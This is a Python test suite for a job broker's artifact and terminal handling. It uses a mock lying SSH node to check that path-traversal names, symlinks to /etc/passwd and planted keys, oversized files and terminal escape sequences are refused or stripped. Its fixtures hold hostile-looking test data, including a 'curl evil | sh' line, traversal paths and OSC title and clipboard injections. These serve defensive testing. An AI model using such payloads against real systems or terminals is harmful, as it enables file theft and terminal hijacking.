"""What a node returns is input, not authority: artifact names and files, its output on the terminal.

The artifact tests talk to a node that lies, at the real boundary: an asyncssh SSH + SFTP server on 127.0.0.1 (in
this process) whose answer to broker's artifact listing is whatever the test says, serving a real folder that holds
symlinks out of the work folder and large files, and whose SFTP ``stat`` can misreport sizes.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from broker.run.artifacts import ArtifactBudget, RefusedArtifact, artifact_destination, collect_local
from broker.run.supervisor import LocalNode, RunResult, Supervisor
from broker.core.model import TopologyKind
from broker.core.records import Cluster, ClusterNode
from tests.conftest import REPO, broker_cmd

asyncssh = pytest.importorskip("asyncssh")


# --------------------------------------------------------------------------------------------------- a lying node
class LyingNode:
    """An SSH + SFTP server on 127.0.0.1 (no authentication) serving this machine's files under ``root``; the
    artifact listing (the command that runs ``glob.glob``) is answered with ``self.names``; ``self.stat_size``
    (when set) is the size its SFTP ``stat`` reports for every file."""

    def __init__(self, root: Path):
        from broker.run.sshcluster import LoopThread

        self.root = root
        self.names: object = []
        self.stat_size: int | None = None
        self.loop = LoopThread()
        self.server = self.loop.call(self._start(), timeout=30)
        self.port = self.server.sockets[0].getsockname()[1]

    async def _start(self):
        node = self

        class NoAuth(asyncssh.SSHServer):
            def begin_auth(self, username: str) -> bool:
                return False

        class SFTP(asyncssh.SFTPServer):
            def stat(self, path):
                attrs = asyncssh.SFTPAttrs.from_local(super().stat(path))
                if node.stat_size is not None:
                    attrs.size = node.stat_size
                return attrs

        async def process(proc):
            if "glob.glob" in (proc.command or ""):
                proc.stdout.write(json.dumps(node.names) + "\n")
            proc.exit(0)

        key = asyncssh.generate_private_key("ssh-ed25519")
        return await asyncssh.create_server(NoAuth, "127.0.0.1", 0, server_host_keys=[key],
                                            process_factory=process, sftp_factory=SFTP)

    def close(self) -> None:
        async def _stop():
            self.server.close()
            await self.server.wait_closed()
        self.loop.call(_stop(), timeout=15)
        self.loop.close()


@pytest.fixture
def lying(tmp_path):
    """(node, its work folder, an SSHCluster connected to it, the run folder)."""
    from broker.run.sshcluster import SSHCluster

    node = LyingNode(tmp_path)
    cluster = Cluster(run_id="r1", provider="netns", topology=TopologyKind.multi_node, python=sys.executable,
                      workroot=str(tmp_path / "node"),
                      nodes=[ClusterNode(node_rank=0, host="127.0.0.1", port=node.port, private_ip="127.0.0.1")])
    run_dir = tmp_path / "a" / "b" / "run"
    run_dir.mkdir(parents=True)
    ssh = SSHCluster(cluster, run_dir=run_dir, connect_timeout_s=10)
    work = Path(ssh.work(0))
    work.mkdir(parents=True)
    (work / "ok.txt").write_text("fine\n")
    (work / "sub").mkdir()
    (work / "sub" / "inner.txt").write_text("inner\n")
    try:
        yield node, work, ssh, run_dir
    finally:
        ssh.close()
        node.close()


def _collect(ssh, run_dir, patterns=("*",), budget=None) -> RunResult:
    from broker.run.remote import _collect_artifacts

    log = run_dir / "node0.log"
    log.write_text("")
    res = RunResult(status="succeeded", exit_codes={0: 0}, wall_s=1.0, log_paths={0: log})
    _collect_artifacts(ssh, 1, list(patterns), run_dir, res, print, budget)
    return res


def _files(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()) if folder.exists() \
        else []


def test_an_absolute_name_from_the_node_writes_nothing_outside_the_artifact_folder(lying, tmp_path):
    node, work, ssh, run_dir = lying
    victim = tmp_path / "home" / "u" / ".bashrc"
    served = work / str(victim).lstrip("/")  # what work//<victim> is on the node: broker once fetched it
    served.parent.mkdir(parents=True)
    served.write_text("curl evil | sh\n")
    node.names = [str(victim), "ok.txt"]
    res = _collect(ssh, run_dir)
    assert not victim.exists()
    assert res.status == "failed" and repr(str(victim)) in res.reason and "absolute" in res.reason
    assert _files(run_dir / "artifacts" / "node0") == ["ok.txt"]  # the honest one still came back
    assert "refused" in (run_dir / "node0.log").read_text()


def test_a_name_that_climbs_out_with_dotdot_writes_nothing(lying, tmp_path):
    node, work, ssh, run_dir = lying
    (tmp_path / "tmp").mkdir()
    (tmp_path / "tmp" / "x").write_text("payload\n")  # work/../../../../tmp/x on the node
    node.names = ["../../../../tmp/x", "sub/../../x", "sub/inner.txt"]
    res = _collect(ssh, run_dir)
    assert not (tmp_path / "a" / "tmp" / "x").exists()  # <run>/artifacts/node0/../../../../tmp/x
    assert res.status == "failed" and "'../../../../tmp/x'" in res.reason and "'sub/../../x'" in res.reason
    assert _files(run_dir / "artifacts" / "node0") == ["sub/inner.txt"]
    assert [p for p in tmp_path.rglob("x") if p.is_file()] == [tmp_path / "tmp" / "x"]


def test_a_symlink_on_the_node_out_of_its_work_folder_is_not_followed(lying, tmp_path):
    node, work, ssh, run_dir = lying
    (work / "passwd").symlink_to("/etc/passwd")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_rsa").write_text("PRIVATE KEY\n")
    (work / "keys").symlink_to(outside)  # a symlinked folder: keys/id_rsa resolves outside too
    (work / "inside").symlink_to(work / "ok.txt")  # a symlink that stays inside is fine
    node.names = ["passwd", "keys/id_rsa", "inside"]
    res = _collect(ssh, run_dir)
    got = run_dir / "artifacts" / "node0"
    assert _files(got) == ["inside"] and (got / "inside").read_text() == "fine\n"
    assert res.status == "failed"
    # the node's target shown quoted: a name from a node may hold anything, control characters included
    assert "'passwd' (a symlink to '/etc/passwd', outside node 0's work folder)" in res.reason
    assert f"'keys/id_rsa' (a symlink to '{outside / 'id_rsa'}'" in res.reason


def test_a_huge_artifact_is_refused_with_the_file_and_the_cap(lying, monkeypatch):
    node, work, ssh, run_dir = lying
    (work / "huge.bin").write_bytes(b"\0" * (3 << 20))
    monkeypatch.setenv("BROKER_ARTIFACT_MAX_GIB", str(1 / 1024))  # 1 MiB
    node.names = ["huge.bin", "ok.txt"]
    res = _collect(ssh, run_dir)
    assert res.status == "failed"
    assert "'huge.bin' (3.0 MiB is over the 1.0 MiB cap for one artifact (BROKER_ARTIFACT_MAX_GIB raises it))" \
        in res.reason
    assert _files(run_dir / "artifacts" / "node0") == ["ok.txt"]


def test_a_node_that_misreports_sizes_is_cut_off_at_the_cap(lying):
    node, work, ssh, run_dir = lying
    (work / "grows.bin").write_bytes(b"x" * (3 << 20))
    node.stat_size = 10  # "it is 10 bytes"
    node.names = ["grows.bin"]
    res = _collect(ssh, run_dir, budget=ArtifactBudget(per_file=1 << 20, total=1 << 30))
    assert res.status == "failed" and "'grows.bin'" in res.reason and "cap for one artifact" in res.reason
    assert not (run_dir / "artifacts" / "node0" / "grows.bin").exists()  # the partial copy is removed


def test_the_run_cap_bounds_all_artifacts_together(lying):
    node, work, ssh, run_dir = lying
    for k in range(3):
        (work / f"part{k}.bin").write_bytes(b"y" * (600 << 10))
    node.names = ["part0.bin", "part1.bin", "part2.bin"]
    res = _collect(ssh, run_dir, budget=ArtifactBudget(per_file=1 << 20, total=1300 << 10))
    assert _files(run_dir / "artifacts" / "node0") == ["part0.bin", "part1.bin"]
    assert "'part2.bin'" in res.reason and "cap for all of them" in res.reason


def test_a_listing_that_is_not_names_is_refused(lying):
    node, work, ssh, run_dir = lying
    node.names = [{"a": 1}, "", "bad\x1b]0;t\x07name", "ok.txt"]
    res = _collect(ssh, run_dir)
    assert _files(run_dir / "artifacts" / "node0") == ["ok.txt"]
    assert res.status == "failed" and "control characters" in res.reason and "\x1b" not in res.reason
    node.names = {"not": "a list"}
    res = _collect(ssh, run_dir)
    assert res.status == "failed" and "not a list" in res.reason


def test_honest_artifacts_still_come_back(lying):
    node, work, ssh, run_dir = lying
    node.names = ["ok.txt", "sub/inner.txt"]
    res = _collect(ssh, run_dir, patterns=["*.txt", "sub/*"])
    assert res.status == "succeeded", res.reason
    assert (run_dir / "artifacts" / "node0" / "sub" / "inner.txt").read_text() == "inner\n"
    assert (run_dir / "artifacts" / "node0" / "ok.txt").stat().st_mode & 0o077 == 0  # created 0600


# --------------------------------------------------------------------------------------------------- local nodes
def test_artifact_destination_rules(tmp_path):
    root = tmp_path / "artifacts" / "node0"
    assert artifact_destination(root, "a/./b.txt") == root / "a" / "b.txt"
    for bad, why in [("/etc/passwd", "absolute"), ("../x", "'..'"), ("a/../../x", "'..'"), ("", "not a file"),
                     (".", "not a file"), (None, "not a file"), ("a\nb", "control"), ("a\x9bb", "control")]:
        with pytest.raises(RefusedArtifact, match=why):
            artifact_destination(root, bad)
    root.mkdir(parents=True)
    (root / "link").symlink_to(tmp_path)  # a symlink already in the artifact folder
    with pytest.raises(RefusedArtifact, match="outside"):
        artifact_destination(root, "link/x")


def test_local_collection_refuses_symlinks_out_of_the_work_folder_and_caps_sizes(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    secret = tmp_path / "credentials"
    secret.write_text("aws_secret_access_key=...\n")
    (work / "creds.txt").symlink_to(secret)
    (work / "big.txt").write_bytes(b"z" * 4096)
    (work / "small.txt").write_text("ok\n")
    got, refused = collect_local(work, ["*.txt"], tmp_path / "out", ArtifactBudget(per_file=1024, total=1 << 20))
    assert got == ["small.txt"]
    assert any(r.startswith("'creds.txt' (a symlink to ") for r in refused)
    assert any(r.startswith("'big.txt' (4.0 KiB is over the 1.0 KiB cap") for r in refused)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["small.txt"]


# --------------------------------------------------------------------------------------------------- the terminal
OSC_CSI = ("import sys\n"
           "sys.stdout.write('\\x1b]0;owned title\\x07\\x1b[2Kvisible text \\u00e9\\u4e2d\\tend\\n')\n"
           "sys.stdout.write('\\x1b]52;c;ZXZpbA==\\x1b\\\\clipboard \\x1b[31mred\\x1b[0m\\n')\n"
           "sys.stdout.flush()\n")


def test_strip_and_show_controls():
    from broker.core.ui import strip_controls, visible_controls

    assert strip_controls("\x1b]0;title\x07a\x1b[2Kb\x1b]8;;http://x\x1b\\c\x1b]8;;\x1b\\\td é中😀\n") == \
        "abc\td é中😀\n"
    assert strip_controls("\x9b31mred\x1b(Bx\x00\x7f\x1bc\n") == "redx\n"  # C1 CSI, charset, NUL, DEL, RIS
    assert strip_controls("\x1b]2;never ended\nnext\n") == "\nnext\n"  # an OSC ends with its line at the latest
    assert strip_controls("10%\r50%\r100%\r\n") == "100%\n"  # what the terminal would end up showing
    assert visible_controls("\x1b]0;t\x07x\ty\n") == "\\x1b]0;t\\x07x\ty\n"


def test_the_fast_strip_is_the_regex_strip():
    """strip_controls' byte-level fast path removes exactly what the one regex (``_CONTROLS``) does."""
    import random

    from broker.core import ui
    def by_regex(t: str) -> str:
        return ui._CONTROLS.sub("", ui._OVERWRITTEN.sub("", t) if "\r" in t else t)

    alphabet = list("ab \t\n\r\x1b[]PX^_0;2Km\x07\\\x9c\x9b\x9d\x00\x7f(B?/~@") + ["\u00e9", "\u00b0", "\u4e2d"]
    rng = random.Random(7)
    for _ in range(20000):
        t = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        assert ui.strip_controls(t) == by_regex(t), repr(t)


def test_streamed_node_lines_reach_the_terminal_without_control_sequences(tmp_path, capsys):
    from broker.core.ui import echo_line

    log = tmp_path / "node0.log"
    node = LocalNode(0, [sys.executable, "-c", OSC_CSI], dict(os.environ), tmp_path)
    res = Supervisor({0: log}, echo=echo_line, grace_s=1.0).run([node], deadline_s=60)
    assert res.status == "succeeded"
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "[node 0] visible text é中\tend\n" in out and "[node 0] clipboard red\n" in out
    raw = log.read_bytes()  # the node log keeps exactly what the node printed
    assert b"\x1b]0;owned title\x07\x1b[2Kvisible text" in raw and b"\x1b]52;c;ZXZpbA==\x1b\\" in raw


def test_broker_logs_strips_controls_and_v_shows_them(cli_env, tmp_path):
    d = tmp_path / "job"
    d.mkdir()
    (d / "t.py").write_text(OSC_CSI)
    (d / "r.yaml").write_text("name: esc\nscript: t.py\nnodes: 1\ncpu_ok: true\nmax_hours: 0.1\n")

    def cli(*args):
        return subprocess.run(broker_cmd(*args), cwd=REPO, env=cli_env, capture_output=True, text=True,
                              timeout=300, stdin=subprocess.DEVNULL)

    p = cli("run", str(d / "r.yaml"), "--provider", "local")
    assert p.returncode == 0, p.stderr
    assert "[node 0] visible text é中\tend" in p.stdout and "\x1b" not in p.stdout
    run_id = next(ln.split()[1].rstrip(":") for ln in p.stdout.splitlines() if ln.startswith("run "))
    shown = cli("logs", run_id)
    assert shown.returncode == 0 and "visible text é中\tend" in shown.stdout and "\x1b" not in shown.stdout
    verbose = cli("-v", "logs", run_id)
    assert "\\x1b]0;owned title\\x07\\x1b[2Kvisible text" in verbose.stdout and "\x1b" not in verbose.stdout


# --------------------------------------------------------------------------------------------------- this machine as a node
@pytest.fixture
def local_node(tmp_path):
    """An SSHCluster whose node 0 is this machine (a hybrid run's node 0: broker.run.localconn), and its work folder."""
    from broker.run.sshcluster import SSHCluster

    cluster = Cluster(run_id="r2", provider="netns", topology=TopologyKind.hybrid, python=sys.executable,
                      workroot=str(tmp_path / "root"),
                      nodes=[ClusterNode(node_rank=0, host="127.0.0.1", private_ip="127.0.0.1", local=True)])
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    ssh = SSHCluster(cluster, run_dir=run_dir)
    work = Path(ssh.work(0))
    work.mkdir(parents=True)
    try:
        yield ssh, work, run_dir
    finally:
        ssh.close()


def test_this_machine_as_a_node_gets_the_same_artifact_checks(local_node, tmp_path):
    ssh, work, run_dir = local_node
    (tmp_path / "secret").write_text("s3cr3t\n")
    (work / "leak.txt").symlink_to(tmp_path / "secret")
    (work / "model.pt").write_bytes(b"weights")
    res = _collect(ssh, run_dir, patterns=["*.txt", "*.pt"])
    assert _files(run_dir / "artifacts" / "node0") == ["model.pt"]
    assert res.status == "failed" and "'leak.txt' (a symlink to " in res.reason


def test_this_machine_as_a_node_takes_the_streamed_work_folder(local_node, tmp_path):
    """A hybrid run's node 0 (this machine) gets the work folder through the same streamed-tar upload as a remote
    node: the tar file is put (SFTP ``put``) and unpacked there."""
    from broker.run.staging import stage_plan, staged_tar

    ssh, work, run_dir = local_node
    src = tmp_path / "src"
    (src / "sub").mkdir(parents=True)
    (src / "train.py").write_text("print('hi')\n")
    (src / "sub" / "data.bin").write_bytes(b"\0" * 4096)
    dest = Path(ssh.base(0)) / "work2"
    with staged_tar(stage_plan(src), tmp_path / "tars") as t:
        ssh.gather([ssh.aupload_tgz(0, t, str(dest))], timeout=60)
    assert (dest / "train.py").read_text() == "print('hi')\n"
    assert (dest / "sub" / "data.bin").stat().st_size == 4096


def test_remote_node_output_is_logged_raw_and_shown_clean(local_node, capsys):
    from broker.run.sshcluster import RemoteNode
    from broker.core.ui import echo_line

    ssh, work, run_dir = local_node
    log = run_dir / "node0.log"
    node = RemoteNode(ssh, 0, f"{shlex.quote(sys.executable)} -c {shlex.quote(OSC_CSI)}")
    res = Supervisor({0: log}, echo=echo_line, grace_s=1.0).run([node], deadline_s=60)
    assert res.status == "succeeded"
    out = capsys.readouterr().out
    assert "[node 0] visible text é中\tend\n" in out and "\x1b" not in out
    assert b"\x1b]0;owned title\x07\x1b[2Kvisible text \xc3\xa9" in log.read_bytes()


def test_a_terminal_that_does_not_keep_up_never_stalls_the_node(tmp_path, monkeypatch):
    """The console is written by its own thread; past the backlog cap lines are dropped from the display (and
    said), never from the log, and the node is never made to wait."""
    import time

    from broker.run import supervisor
    monkeypatch.setattr(supervisor, "MAX_BACKLOG", 512)
    shown: list[str] = []

    def slow_terminal(line: str) -> None:
        time.sleep(0.05)
        shown.append(line)

    code = "for i in range(20000): print(f'line {i}', flush=True)\nprint('LAST', flush=True)"
    log = tmp_path / "node0.log"
    node = LocalNode(0, [sys.executable, "-c", code], dict(os.environ), tmp_path)
    res = Supervisor({0: log}, echo=slow_terminal, grace_s=1.0).run([node], deadline_s=120)
    assert res.status == "succeeded"
    text = log.read_text()
    assert text.count("\n") == 20001 and text.endswith("line 19999\nLAST\n")  # the log has every line
    assert len(shown) < 20001
    assert any(s.startswith("[broker] ") and "line(s) of node 0 not shown" in s for s in shown)


def test_slurm_login_node_artifacts_are_resolved_there_and_capped(tmp_path):
    """``--slurm-host``: the login node resolves each artifact (realpath) before it is read, and no more than the
    cap is ever read (the shell runs here, as ssh would run it there)."""
    from types import SimpleNamespace

    from broker.providers.slurm import Shell
    from broker.slurm.executor import SlurmExecutor

    work = tmp_path / "job"
    work.mkdir()
    (work / "ckpt.pt").write_bytes(b"w" * 100)
    (work / "big.pt").write_bytes(b"b" * 5000)
    (work / "hosts").symlink_to("/etc/hosts")
    ex = SimpleNamespace(work=str(work), sh=Shell())
    root = tmp_path / "artifacts" / "node0"
    budget = ArtifactBudget(per_file=1000, total=1 << 20)
    assert SlurmExecutor._fetch_remote(ex, "ckpt.pt", root, budget) is True
    assert (root / "ckpt.pt").read_bytes() == b"w" * 100
    assert SlurmExecutor._fetch_remote(ex, "missing.pt", root, budget) is False
    with pytest.raises(RefusedArtifact, match="a symlink to '/etc/hosts', outside the job folder"):
        SlurmExecutor._fetch_remote(ex, "hosts", root, budget)
    with pytest.raises(RefusedArtifact, match="over the 1000 bytes cap"):
        SlurmExecutor._fetch_remote(ex, "big.pt", root, budget)
    assert sorted(p.name for p in root.iterdir()) == ["ckpt.pt"]


def test_a_failing_rank_s_error_with_escapes_reaches_neither_summary_nor_status_raw(cli_env, tmp_path):
    d = tmp_path / "job"
    d.mkdir()
    (d / "t.py").write_text("raise RuntimeError('\\x1b]0;owned\\x07\\x1b[2Kdisk on fire')\n")
    (d / "r.yaml").write_text("name: esc\nscript: t.py\nnodes: 1\ncpu_ok: true\nmax_hours: 0.1\n")

    def cli(*args):
        return subprocess.run(broker_cmd(*args), cwd=REPO, env=cli_env, capture_output=True, text=True,
                              timeout=300, stdin=subprocess.DEVNULL)

    p = cli("run", str(d / "r.yaml"), "--provider", "local")
    assert p.returncode == 1
    assert "disk on fire" in p.stdout and "\x1b" not in p.stdout + p.stderr
    run_id = next(ln.split()[1].rstrip(":") for ln in p.stdout.splitlines() if ln.startswith("run "))
    st = cli("status", run_id, "--no-refresh")
    assert st.returncode == 0, st.stderr
    assert "\x1b" not in st.stdout


def test_broker_logs_follow_strips_controls_too(tmp_path):
    import io

    from broker.cli.day2 import follow_log

    log = tmp_path / "node0.log"
    log.write_bytes(b"\x1b]0;owned\x07\x1b[2Kstep 1\n\x1b[31mred\x1b[0m\n")
    out = io.StringIO()
    follow_log(type("NoRun", (), {"get_run": lambda self, rid: None})(), "r", log, out=out, poll_s=0.01)
    assert out.getvalue() == "step 1\nred\n"
